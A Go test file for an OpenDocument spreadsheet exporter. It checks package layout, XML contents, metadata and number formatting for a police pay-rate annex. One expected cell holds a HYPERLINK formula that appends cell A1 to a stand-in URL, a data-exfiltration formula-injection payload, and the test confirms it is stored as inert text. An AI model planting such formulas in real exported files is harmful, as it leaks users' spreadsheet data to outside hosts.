package annex

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"strings"
	"testing"

	"assize/report/say/doc"
)

func odsPart(t *testing.T, packed []byte, name string) string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(packed), int64(len(packed)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	data, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	d := xml.NewDecoder(bytes.NewReader(data))
	for {
		if _, err := d.Token(); errors.Is(err, io.EOF) {
			return string(data)
		} else if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
	}
}

func TestODS(t *testing.T) {
	w := annexWorkbook(true)
	packed, err := ODS(w, Env{})
	if err != nil {
		t.Fatal(err)
	}
	keep(t, "annex.ods", packed)
	again, err := ODS(annexWorkbook(true), Env{})
	if err != nil || !bytes.Equal(packed, again) {
		t.Errorf("two writings of one workbook differ (%v)", err)
	}
	if !w.Analyst {
		t.Error("ODS changed the workbook")
	}
	// Programs know the file by these bytes: OpenDocument 1.3, part 2, 3.3.
	if got := string(packed[30 : 38+len(odsType)]); got != "mimetype"+odsType {
		t.Errorf("the package does not begin with its media type: %q", got)
	}
	content := odsPart(t, packed, "content.xml")
	for _, want := range []string{
		`<table:database-range table:name="tbl_rates" table:target-range-address="Rates.A5:Rates.M9"`,
		`<table:named-range table:name="h_recording_rate" table:base-cell-address="$Rates.$E$9"`,
		`office:value-type="float" office:value="41875"><text:p>41,875</text:p>`,
		`office:value-type="date" office:date-value="2015-06-01T00:00:00"><text:p>2015-06-01 00:00</text:p>`,
		`xlink:href="#Rates.A1">Rates</text:a>`,
		`<table:title>Grades and the rates they begin at</table:title>`,
		`<text:p>=HYPERLINK(&#34;http://example.invalid/?x=&#34;&amp;A1,&#34;click&#34;)</text:p>`,
		`<text:p>two</text:p><text:p>lines</text:p>`,
		`<text:p><text:s text:c="1"/>leading and<text:s text:c="2"/>double</text:p>`,
	} {
		if !strings.Contains(content, want) {
			t.Errorf("content.xml lacks %s", want)
		}
	}
	if strings.Contains(content, "table:formula") {
		t.Error("a formula in the ods")
	}
	meta := odsPart(t, packed, "meta.xml")
	for _, want := range []string{"<dc:language>en-GB</dc:language>", "<dc:title>Exampleshire Police", "<dc:date>2016-08-25T00:00:00Z</dc:date>"} {
		if !strings.Contains(meta, want) {
			t.Errorf("meta.xml lacks %s", want)
		}
	}
	odsPart(t, packed, "styles.xml")
	odsPart(t, packed, "META-INF/manifest.xml")
}

func TestShownNumber(t *testing.T) {
	tests := []struct {
		kind doc.CellKind
		v    float64
		want string
	}{
		{doc.CountCell, 0, "0"},
		{doc.CountCell, 999, "999"},
		{doc.CountCell, 1000, "1,000"},
		{doc.CountCell, -1234567, "-1,234,567"},
		{doc.PercentCell, 85.46, "85.5"},
		{doc.PercentCell, 100, "100.0"},
		{doc.PercentCell, 1234.5, "1,234.5"},
		{doc.PercentCell, -0.04, "-0.0"},
		{doc.DecimalCell, 1.959963984540054, "1.96"},
		{doc.DecimalCell, 8291952.84, "8,291,952.84"},
		{doc.FineCell, 1.959963984540054, "1.9600"},
	}
	for _, test := range tests {
		if got := shownNumber(test.kind, test.v); got != test.want {
			t.Errorf("%v of kind %d: got %s, want %s", test.v, test.kind, got, test.want)
		}
	}
}
